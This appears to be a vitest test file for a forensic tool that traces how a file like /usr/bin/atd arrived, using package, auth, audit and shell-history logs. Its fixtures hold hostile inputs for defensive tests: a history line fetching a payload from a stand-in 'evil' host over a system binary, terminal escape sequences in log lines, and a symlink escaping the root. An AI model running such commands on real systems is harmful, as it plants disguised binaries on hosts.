import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { readLog } from "../../../src/origin/logs/lines.ts";
import { stamped, syslogStamped } from "../../../src/origin/logs/stamp.ts";
import { Zone } from "../../../src/origin/logs/zone.ts";
import { namesPath } from "../../../src/origin/names.ts";
import { nevra } from "../../../src/origin/sources/dnf-log.ts";
import { Telling } from "../../../src/origin/told.ts";
import { redactLine } from "../../../src/model/redact.ts";
import { openRoot } from "../../../src/platform/root.ts";
import { asked, codesOf, eventOf, rootWith, written } from "./made.ts";

const zone = (name: string): Zone => Zone.named(name) as Zone;
const iso = (ms: number | undefined): string | undefined =>
  ms === undefined || Number.isNaN(ms) ? undefined : new Date(ms).toISOString();

describe("times of logs", () => {
  it.each([
    ["2026-07-01 12:00:00 install", "Europe/Berlin", "2026-07-01T10:00:00.000Z"],
    ["2026-01-01  12:00:00", "Europe/Berlin", "2026-01-01T11:00:00.000Z"],
    ["[2026-01-01T12:00:00-0330] [ALPM]", "UTC", "2026-01-01T15:30:00.000Z"],
    ["[2026-01-01 12:00] [PACMAN]", "Asia/Kolkata", "2026-01-01T06:30:00.000Z"],
    ["2026-01-01T12:00:00.250+01:00 host sshd", "UTC", "2026-01-01T11:00:00.250Z"],
    // The hour that comes twice, and the hour that does not come.
    ["2026-10-25 02:30:00", "Europe/Berlin", "2026-10-25T00:30:00.000Z"],
    ["2026-03-29 02:30:00", "Europe/Berlin", "2026-03-29T01:30:00.000Z"],
    ["2026-13-01 12:00:00", "UTC", undefined],
    ["2026-02-30 12:00:00", "UTC", undefined],
  ])("%s in %s", (line, name, expected) => {
    expect(iso(stamped(line, zone(name))?.ms)).toBe(expected);
  });

  it("agree with date(1) over years of changes", () => {
    for (const name of ["Europe/Berlin", "America/New_York", "Australia/Lord_Howe", "Asia/Kolkata"]) {
      const walls = Array.from({ length: 200 }, (_, at) => written(Date.UTC(2024, 0, 1, 12) + at * 5.3 * 86_400_000));
      const env = { PATH: "/usr/bin:/bin", TZ: name };
      const told = execFileSync("date", ["-f", "-", "+%s"], { input: walls.join("\n"), env, encoding: "utf8" });
      const ours = walls.map((wall) => (stamped(wall, zone(name))?.ms ?? 0) / 1000);
      expect(ours, name).toEqual(told.trim().split("\n").map(Number));
    }
  });

  it("without a year are of the last year that is not after the file", () => {
    const modified = Date.UTC(2026, 0, 2);
    expect(iso(syslogStamped("Dec 31 23:59:59 host x: y", zone("UTC"), modified)?.ms)).toBe("2025-12-31T23:59:59.000Z");
    expect(iso(syslogStamped("Jan  1 00:00:00 host x: y", zone("UTC"), modified)?.ms)).toBe("2026-01-01T00:00:00.000Z");
    expect(iso(syslogStamped("Feb 29 00:00:00 host x: y", zone("UTC"), modified)?.ms)).toBe("2024-02-29T00:00:00.000Z");
  });

  it("are in the zone of the root, and UTC where it does not tell", () => {
    const made = rootWith({ "etc/x": "" });
    expect(Zone.of(openRoot(made))).toMatchObject({ name: "UTC", known: true });
    fs.symlinkSync("/usr/share/zoneinfo/Europe/Berlin", `${made}/etc/localtime`);
    expect(Zone.of(openRoot(made))).toMatchObject({ name: "Europe/Berlin", known: true });
    const strange = rootWith({ "etc/localtime": "TZif2", "etc/timezone": "Mars/Olympus\n" });
    expect(Zone.of(openRoot(strange))).toMatchObject({ name: "UTC", known: false });
  });
});

const MOST = 1 << 20;

describe("a log", () => {
  it("is read with its rotated and packed files, never out of its root, never from a FIFO", async () => {
    const outside = rootWith({ secret: "outside\n" });
    const dir = rootWith({
      "var/log/x.log": "new\n\u001b]0;evil\u0007\n",
      "var/log/x.log.1": "older",
      "var/log/x.log.2.gz": gzipSync("oldest\n"),
      "var/log/x.log.3.gz": gzipSync("cut off\n".repeat(2000)).subarray(0, 40),
      "var/log/x.logger": "another log\n",
    });
    fs.symlinkSync(`${outside}/secret`, `${dir}/var/log/x.log.4`);
    execFileSync("mkfifo", [`${dir}/var/log/x.log.5`]);
    const telling = new Telling("x", { now: Date.now() });
    const lines: string[] = [];
    expect(await readLog(openRoot(dir), "/var/log/x.log", telling, (line) => void lines.push(line))).toBe(true);
    expect(lines.filter((line) => !line.startsWith("cut off"))).toEqual([
      "new",
      "\u001b]0;evil\u0007",
      "older",
      "oldest",
    ]);
    expect(telling.gaps.map(({ code, what }) => [code, what])).toEqual([
      ["origin.damaged", "/var/log/x.log.3.gz"],
      ["origin.no-regular-file", "/var/log/x.log.4"],
      ["origin.no-regular-file", "/var/log/x.log.5"],
    ]);
  });

  it("that is longer than the bound is read from its end, and one endless line is cut", async () => {
    const dir = rootWith({ "var/log/x.log": "" });
    const file = fs.openSync(`${dir}/var/log/x.log`, "w");
    // A hole of zeros without a line, then what counts.
    fs.ftruncateSync(file, MOST + 1000);
    fs.writeSync(file, "\nthe end\n", MOST + 1000);
    fs.closeSync(file);
    const telling = new Telling("x", { now: Date.now() });
    const lines: string[] = [];
    await readLog(openRoot(dir), "/var/log/x.log", telling, (line) => void lines.push(line), MOST);
    expect(lines).toEqual(["the end"]);
    expect(telling.gaps.map(({ code }) => code)).toEqual(["origin.too-long"]);
  });

  it("that unpacks to more than the bound is cut, and said to be", async () => {
    const dir = rootWith({ "var/log/x.log.1.gz": gzipSync(Buffer.alloc(MOST * 4, "a line\n")) });
    const telling = new Telling("x", { now: Date.now() });
    let lines = 0;
    await readLog(openRoot(dir), "/var/log/x.log", telling, () => void lines++, MOST);
    expect(lines).toBeGreaterThan(1000);
    expect(telling.gaps.map(({ code }) => code)).toEqual(["origin.too-long"]);
  });
});

describe("names in lines", () => {
  it.each([
    ["cp x /usr/bin/atd", true],
    ["'/usr/bin/atd'", true],
    ["COMMAND=/usr/bin/atd -f", true],
    ["/usr/bin/atd.conf", false],
    ["/mnt/usr/bin/atd", false],
    ["/usr/bin/atd/x /usr/bin/atd", true],
  ])("%s: %s", (line, expected) => {
    expect(namesPath(line, ["/usr/bin/atd"])).toBe(expected);
  });

  it("of packages by dnf", () => {
    expect(nevra("at-3.2.5-1.fc40.x86_64")).toEqual({ name: "at", version: "3.2.5-1.fc40" });
    expect(nevra("nonsense")).toEqual({ name: "nonsense", version: null });
  });
});

describe("secrets in lines", () => {
  it.each([
    ["mysql -phunter2 db | sudo curl -u me:pw http://a", "mysql -p<redacted> db | sudo curl -u me:<redacted> http://a"],
    ["PGPASSWORD='a b' psql postgres://me:pw@db", "PGPASSWORD=<redacted> psql postgres://me:<redacted>@db"],
    ["app --token abc; ls -l", "app --token <redacted>; ls -l"],
    ["cp a  /usr/bin/atd", "cp a  /usr/bin/atd"],
  ])("%s", (line, expected) => {
    expect(redactLine(line)).toBe(expected);
  });
});

describe("what logs tell of a file", () => {
  const now = Date.now();
  const at = written(now);

  it("of pacman, apk and dnf", async () => {
    const dir = rootWith({
      "usr/bin/tool": "x",
      "var/log/pacman.log": `[${at.replace(" ", "T")}+0000] [PACMAN] Running 'pacman -S other'\n[${at.replace(" ", "T")}+0000] [ALPM] installed other (1-1)\n`,
      "var/log/apk.log": `\nRunning \`apk add third\` at ${at}\n(1/1) Installing third (2-r0)\n`,
      "var/log/dnf.rpm.log": `${at.replace(" ", "T")}+0000 SUBDEBUG Installed: fourth-1-1.x86_64\n`,
    });
    const origin = await asked(dir, "/usr/bin/tool");
    expect(origin.verdict.outcome).toBe("not-known");
    const packages = origin.events.filter(({ code }) => code === "origin.other-packages");
    expect(packages.map(({ source, args }) => [source, args["packages"]])).toEqual(
      expect.arrayContaining([
        ["pacman.log", ["other"]],
        ["apk.log", ["third"]],
        ["dnf.log", ["fourth"]],
      ]),
    );
  });

  it("of sudo, ssh and cron: a command that names it is evidence, secrets are not told", async () => {
    const stamp = new Date(now).toISOString();
    const dir = rootWith({
      "usr/bin/atd": "x",
      "var/log/auth.log": [
        `${stamp} host sshd[1]: Accepted password for root from 203.0.113.7 port 50022 ssh2`,
        `${stamp} host sshd[2]: Failed password for invalid user \u001b[2J from 203.0.113.8 port 1 ssh2`,
        `${stamp} host sudo:    bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/install -m 711 x /usr/bin/atd --password=geheim`,
        `${stamp} host CRON[3]: (root) CMD (/usr/bin/true)`,
        "no time here",
      ].join("\n"),
    });
    const origin = await asked(dir, "/usr/bin/atd");
    expect(origin.verdict).toMatchObject({ outcome: "arrived-by", code: "origin.by-command", confidence: "medium" });
    expect(codesOf(origin)).toEqual(
      expect.arrayContaining(["origin.ssh-login", "origin.failed-logins", "origin.sudo", "origin.cron-ran"]),
    );
    expect(JSON.stringify(origin)).not.toContain("geheim");
    expect(origin.sources.find(({ id }) => id === "auth-log")).toMatchObject({ records: 4, skipped: 1 });
  });

  it("of histories only when asked, with the time of the command where there is one", async () => {
    const seconds = Math.floor(now / 1000);
    const dir = rootWith({
      "usr/bin/atd": "x",
      "etc/passwd": "root:x:0:0::/root:/bin/sh\n",
      "root/.bash_history": `#${seconds}\nwget http://u:geheim@evil/x -O /usr/bin/atd\nls\n`,
    });
    expect(codesOf(await asked(dir, "/usr/bin/atd"))).not.toContain("origin.command-typed");
    const origin = await asked(dir, "/usr/bin/atd", { histories: true });
    expect(eventOf(origin, "origin.command-typed")).toMatchObject({
      time: new Date(seconds * 1000).toISOString().replace(".000", ""),
    });
    expect(origin.verdict).toMatchObject({ code: "origin.by-command", confidence: "low" });
    expect(JSON.stringify(origin)).not.toContain("geheim");
  });

  it("of audit: who created it", async () => {
    const ms = fs.statSync(rootWith({ x: "" })).birthtimeMs;
    const dir = rootWith({ "usr/bin/atd": "x" });
    const birth = fs.statSync(`${dir}/usr/bin/atd`).birthtimeMs || ms;
    const id = `audit(${(birth / 1000).toFixed(3)}:42)`;
    fs.mkdirSync(`${dir}/var/log/audit`, { recursive: true });
    fs.writeFileSync(
      `${dir}/var/log/audit/audit.log`,
      [
        `type=SYSCALL msg=${id}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=241 a3=1ff items=2 ppid=1 pid=812 auid=1000 uid=0 gid=0 euid=0 ses=3 comm="wget" exe="/usr/bin/wget" key=(null)`,
        `type=CWD msg=${id}: cwd="/usr/bin"`,
        `type=PATH msg=${id}: item=0 name="/usr/bin/" inode=1 nametype=PARENT`,
        `type=PATH msg=${id}: item=1 name="atd" inode=2 nametype=CREATE`,
      ].join("\n") + "\n",
    );
    const origin = await asked(dir, "/usr/bin/atd");
    expect(origin.verdict).toMatchObject({
      outcome: "arrived-by",
      code: "origin.by-process",
      args: { exe: "/usr/bin/wget", pid: 812 },
      confidence: "high",
    });
  });

  it("says where time goes back in a log, and that a log begins after the file came", async () => {
    const earlier = written(now - 86_400_000);
    const later = written(now + 60_000);
    const dir = rootWith({
      "usr/bin/atd": "x",
      "var/log/dpkg.log": `${at} startup archives unpack\n${earlier} install at:amd64 <none> 1\n${later} status installed at:amd64 1\n`,
      "var/log/apt/history.log": `Start-Date: ${later.replace(" ", "  ")}\nCommandline: apt install x\nInstall: x:amd64 (1)\nEnd-Date: ${later.replace(" ", "  ")}\n`,
    });
    const origin = await asked(dir, "/usr/bin/atd");
    expect(origin.signs.map(({ code }) => code)).toContain("origin.log-goes-back");
    const gaps = origin.couldNotLook.map(({ code, what }) => `${code} ${what}`);
    expect(gaps).toContain("origin.begins-later /var/log/apt/history.log");
    expect(gaps).toContain("origin.no-such-source wtmp");
  });
});
